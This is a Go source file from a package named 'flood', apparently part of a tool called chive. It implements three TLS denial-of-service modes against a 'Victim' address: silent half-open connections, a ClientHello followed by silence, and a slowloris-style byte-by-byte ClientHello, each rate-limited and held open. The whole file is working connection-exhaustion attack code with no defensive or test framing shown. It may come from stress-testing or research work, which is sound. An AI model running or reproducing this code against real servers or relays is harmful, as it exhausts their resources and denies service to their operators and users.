package flood

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"time"

	"github.com/chivenet/chive/internal/fault"
)

// tlsSilent connects and says nothing.
func tlsSilent(ctx context.Context, a *attack) error { return a.halfOpen(ctx, nil, 0) }

// tlsHello says ClientHello, and nothing to the answer.
func tlsHello(ctx context.Context, a *attack) error {
	hello, err := clientHello(ctx)
	if err != nil {
		return err
	}
	return a.halfOpen(ctx, hello, len(hello))
}

// tlsSlow says ClientHello byte by byte.
func tlsSlow(ctx context.Context, a *attack) error {
	hello, err := clientHello(ctx)
	if err != nil {
		return err
	}
	return a.halfOpen(ctx, hello, 1)
}

// halfOpen opens connections, sends say in pieces by the rate, and waits.
func (a *attack) halfOpen(ctx context.Context, say []byte, piece int) error {
	return a.each(ctx, func(ctx context.Context, i int) error {
		c, err := a.dial(ctx, i, a.Victim.OR)
		if err != nil {
			return err
		}
		defer c.Close()
		if piece == 0 {
			a.sent.Add(1)
		}
		for rest := say; len(rest) > 0; rest = rest[piece:] {
			if piece < len(say) && !a.rate.take(ctx, 1) {
				return context.Cause(ctx)
			}
			if _, err := c.Write(rest[:piece]); err != nil {
				return fault.Wrap(fault.Network, err)
			}
			a.sent.Add(1)
		}
		return a.hold(ctx, c)
	})
}

// clientHello is the first thing that a TLS client says.
func clientHello(ctx context.Context) ([]byte, error) {
	var said bytes.Buffer
	c := tls.Client(recorder{&said}, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS13})
	if err := c.HandshakeContext(ctx); said.Len() == 0 {
		return nil, fault.New(fault.Local, "no ClientHello: %w", err)
	}
	return said.Bytes(), nil
}

// recorder is a connection that keeps what is written, and has nothing to read.
type recorder struct{ *bytes.Buffer }

func (recorder) Read([]byte) (int, error) { return 0, io.EOF }
func (recorder) Close() error             { return nil }

func (recorder) LocalAddr() net.Addr              { return nil }
func (recorder) RemoteAddr() net.Addr             { return nil }
func (recorder) SetDeadline(time.Time) error      { return nil }
func (recorder) SetReadDeadline(time.Time) error  { return nil }
func (recorder) SetWriteDeadline(time.Time) error { return nil }
